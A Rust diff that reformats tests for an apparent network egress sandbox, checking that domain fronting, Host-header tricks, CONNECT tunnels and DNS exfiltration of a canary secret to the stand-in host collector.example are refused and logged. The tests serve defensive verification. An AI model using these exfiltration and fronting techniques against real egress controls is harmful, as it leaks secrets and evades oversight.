@@ -4,7 +4,9 @@ use std::net::SocketAddr;
 
 use carboy_sim::probe::{Hello, Order, ServerNameField};
 
-use crate::attack::{Attack, CANARY_IS_KNOWN, NAME_SERVER, Outside, ask, get, has_v6, hello, pieces, plain, query, tls};
+use crate::attack::{
+    Attack, CANARY_IS_KNOWN, NAME_SERVER, Outside, ask, get, has_v6, hello, pieces, plain, query, tls,
+};
 use crate::http2;
 use crate::world::{CANARY, Person, World};
 use crate::{Case, case};
@@ -35,9 +37,19 @@ fn trailing_dots(person: Person) {
         attack.no_such_name(name, &ask(NAME_SERVER, query(name, 1)), "name_not_allowed", shown);
         attack.refused(name, &tls(notes, "notes.example", get("/", &[name])), "name_mismatch", "asked for");
         let lan = outside.v4();
-        attack.refused(&format!("{name} at an address"), &plain(lan, get("/", &[name])), "address_not_allowed", &lan.ip().to_string());
+        attack.refused(
+            &format!("{name} at an address"),
+            &plain(lan, get("/", &[name])),
+            "address_not_allowed",
+            &lan.ip().to_string(),
+        );
     }
-    attack.refused("two dots", &tls(notes, "notes.example", get("/", &["notes.example.."])), "host_invalid", "notes.example");
+    attack.refused(
+        "two dots",
+        &tls(notes, "notes.example", get("/", &["notes.example.."])),
+        "host_invalid",
+        "notes.example",
+    );
     attack.refused("a dot alone", &tls(notes, "notes.example", get("/", &["."])), "host_invalid", "notes.example");
     attack.finish();
 }
@@ -94,11 +106,21 @@ fn look_alikes(person: Person) {
     }
     let (notes, wild) = (attack.at("notes.example", 443), attack.at("a.wild.example", 443));
     for host in ["notnotes.example", "notes.example.collector.example", "example"] {
-        attack.refused(host, &tls(notes, "notes.example", get("/", &[host])), "name_mismatch", &format!("asked for {host}"));
+        attack.refused(
+            host,
+            &tls(notes, "notes.example", get("/", &[host])),
+            "name_mismatch",
+            &format!("asked for {host}"),
+        );
         attack.refused(host, &tls(notes, host, get("/", &[host])), "name_mismatch", &format!("TLS server name {host}"));
     }
     for host in ["b.wild.example", "wild.example", "a.a.wild.example"] {
-        attack.refused(host, &tls(wild, "a.wild.example", get("/", &[host])), "name_mismatch", &format!("asked for {host}"));
+        attack.refused(
+            host,
+            &tls(wild, "a.wild.example", get("/", &[host])),
+            "name_mismatch",
+            &format!("asked for {host}"),
+        );
     }
     attack.works("below the zone", &tls(wild, "a.wild.example", get("/sink", &["A.Wild.Example"])));
     attack.finish();
@@ -121,8 +143,18 @@ fn other_server_name(person: Person) {
     let connect = b"CONNECT notes.example:443 HTTP/1.1\r\nHost: notes.example:443\r\n\r\n".to_vec();
     attack.refused("a tunnel to itself", &tls(notes, "notes.example", connect), "protocol_refused", "CONNECT");
     let connect = b"CONNECT collector.example:443 HTTP/1.1\r\nHost: notes.example\r\n\r\n".to_vec();
-    attack.refused("a tunnel to another", &tls(notes, "notes.example", connect), "name_mismatch", "asked for collector.example");
-    attack.closed("a handshake that breaks off", &plain(notes, b"\x16\x03\x01\x00\x05hello".to_vec()), "tls_refused", "notes.example");
+    attack.refused(
+        "a tunnel to another",
+        &tls(notes, "notes.example", connect),
+        "name_mismatch",
+        "asked for collector.example",
+    );
+    attack.closed(
+        "a handshake that breaks off",
+        &plain(notes, b"\x16\x03\x01\x00\x05hello".to_vec()),
+        "tls_refused",
+        "notes.example",
+    );
     attack.works("no field at all", &pieces(notes, absent("notes.example"), vec![get("/sink", &["notes.example"])]));
     attack.works("capital letters", &tls(notes, "NOTES.Example", get("/sink", &["notes.EXAMPLE"])));
     attack.finish();
@@ -137,16 +169,36 @@ fn fronting(person: Person) {
         let shown = format!("asked for {}", host.replace(':', " port "));
         attack.refused(host, &tls(notes, "notes.example", get("/", &[host])), "name_mismatch", &shown);
         let absolute = format!("https://{host}/");
-        attack.refused(&absolute, &tls(notes, "notes.example", get(&absolute, &["notes.example"])), "name_mismatch", &shown);
+        attack.refused(
+            &absolute,
+            &tls(notes, "notes.example", get(&absolute, &["notes.example"])),
+            "name_mismatch",
+            &shown,
+        );
         attack.refused(&absolute, &tls(notes, "notes.example", get(&absolute, &[host])), "name_mismatch", &shown);
         let request = http2::request("GET", host, "/sink", &[], &[]);
-        attack.closed(&format!("{host} over HTTP/2"), &http2::over(notes, "notes.example", request), "name_mismatch", &shown);
+        attack.closed(
+            &format!("{host} over HTTP/2"),
+            &http2::over(notes, "notes.example", request),
+            "name_mismatch",
+            &shown,
+        );
         let request = http2::request("GET", "notes.example", "/sink", &[("host", host)], &[]);
-        attack.closed(&format!("{host} beside :authority"), &http2::over(notes, "notes.example", request), "name_mismatch", &shown);
+        attack.closed(
+            &format!("{host} beside :authority"),
+            &http2::over(notes, "notes.example", request),
+            "name_mismatch",
+            &shown,
+        );
     }
     attack.refused("plain", &plain(plain_at, get("/", &["notes.example"])), "name_mismatch", "asked for notes.example");
     let two = get("/", &["notes.example", "collector.example"]);
-    attack.refused("two hosts, the right one first", &tls(notes, "notes.example", two), "name_mismatch", "asked for collector.example");
+    attack.refused(
+        "two hosts, the right one first",
+        &tls(notes, "notes.example", two),
+        "name_mismatch",
+        "asked for collector.example",
+    );
     let two = get("/", &["notes.example", "notes.example"]);
     attack.refused("the same host twice", &tls(notes, "notes.example", two), "host_invalid", "2 Host fields");
     attack.refused("no host", &tls(notes, "notes.example", get("/", &[])), "host_invalid", "no Host");
@@ -161,7 +213,17 @@ fn fronting(person: Person) {
 
 fn dns_as_a_way_out(person: Person) {
     const KINDS: [(&str, u16); 11] = [
-        ("A", 1), ("NS", 2), ("CNAME", 5), ("NULL", 10), ("PTR", 12), ("MX", 15), ("TXT", 16), ("AAAA", 28), ("SRV", 33), ("HTTPS", 65), ("ANY", 255),
+        ("A", 1),
+        ("NS", 2),
+        ("CNAME", 5),
+        ("NULL", 10),
+        ("PTR", 12),
+        ("MX", 15),
+        ("TXT", 16),
+        ("AAAA", 28),
+        ("SRV", 33),
+        ("HTTPS", 65),
+        ("ANY", 255),
     ];
     let world = World::new(person);
     world.settings(CANARY_IS_KNOWN);
@@ -172,13 +234,28 @@ fn dns_as_a_way_out(person: Person) {
     for (kind, number) in KINDS {
         let name = format!("{}.data.collector.example", kind.to_lowercase());
         attack.no_such_name(&name, &ask(NAME_SERVER, query(&name, number)), "name_not_allowed", &name);
-        for name in [format!("{CANARY}.{}.collector.example", kind.to_lowercase()), format!("{front}.{back}.{}.wild.example", kind.to_lowercase())] {
-            attack.no_such_name(&name, &ask(NAME_SERVER, query(&name, number)), "secret_known", &format!("\"type\":\"{kind}\""));
+        for name in [
+            format!("{CANARY}.{}.collector.example", kind.to_lowercase()),
+            format!("{front}.{back}.{}.wild.example", kind.to_lowercase()),
+        ] {
+            attack.no_such_name(
+                &name,
+                &ask(NAME_SERVER, query(&name, number)),
+                "secret_known",
+                &format!("\"type\":\"{kind}\""),
+            );
         }
     }
-    let mut servers = vec![SocketAddr::from(([8, 8, 8, 8], 53)), SocketAddr::new(outside.v4().ip(), 53), SocketAddr::from(([169, 254, 169, 253], 53))];
+    let mut servers = vec![
+        SocketAddr::from(([8, 8, 8, 8], 53)),
+        SocketAddr::new(outside.v4().ip(), 53),
+        SocketAddr::from(([169, 254, 169, 253], 53)),
+    ];
     if has_v6() {
-        servers.extend([SocketAddr::from(([0x2001, 0x4860, 0x4860, 0, 0, 0, 0, 0x8888], 53)), SocketAddr::new(outside.v6().ip(), 53)]);
+        servers.extend([
+            SocketAddr::from(([0x2001, 0x4860, 0x4860, 0, 0, 0, 0, 0x8888], 53)),
+            SocketAddr::new(outside.v6().ip(), 53),
+        ]);
     }
     for (number, server) in servers.into_iter().enumerate() {
         let name = format!("server{number}.collector.example");
@@ -196,7 +273,13 @@ fn dns_as_a_way_out(person: Person) {
         let server = SocketAddr::new(outside.v4().ip(), port);
         attack.nothing_there(&format!("port {port}"), &ask(server, query(&format!("{CANARY}.collector.example"), 1)));
     }
-    let silent = Order::Raw { address: SocketAddr::new(outside.v4().ip(), 853), tls: None, pieces: vec![query("tls.collector.example", 1)], pause_ms: 0, quiet_ms: 200 };
+    let silent = Order::Raw {
+        address: SocketAddr::new(outside.v4().ip(), 853),
+        tls: None,
+        pieces: vec![query("tls.collector.example", 1)],
+        pause_ms: 0,
+        quiet_ms: 200,
+    };
     attack.closed("DNS over TLS", &silent, "address_not_allowed", "\"port\":853");
     let ran = attack.finish();
     let log = std::fs::read_to_string(world.dir.join("home/audit/audit.jsonl")).unwrap();
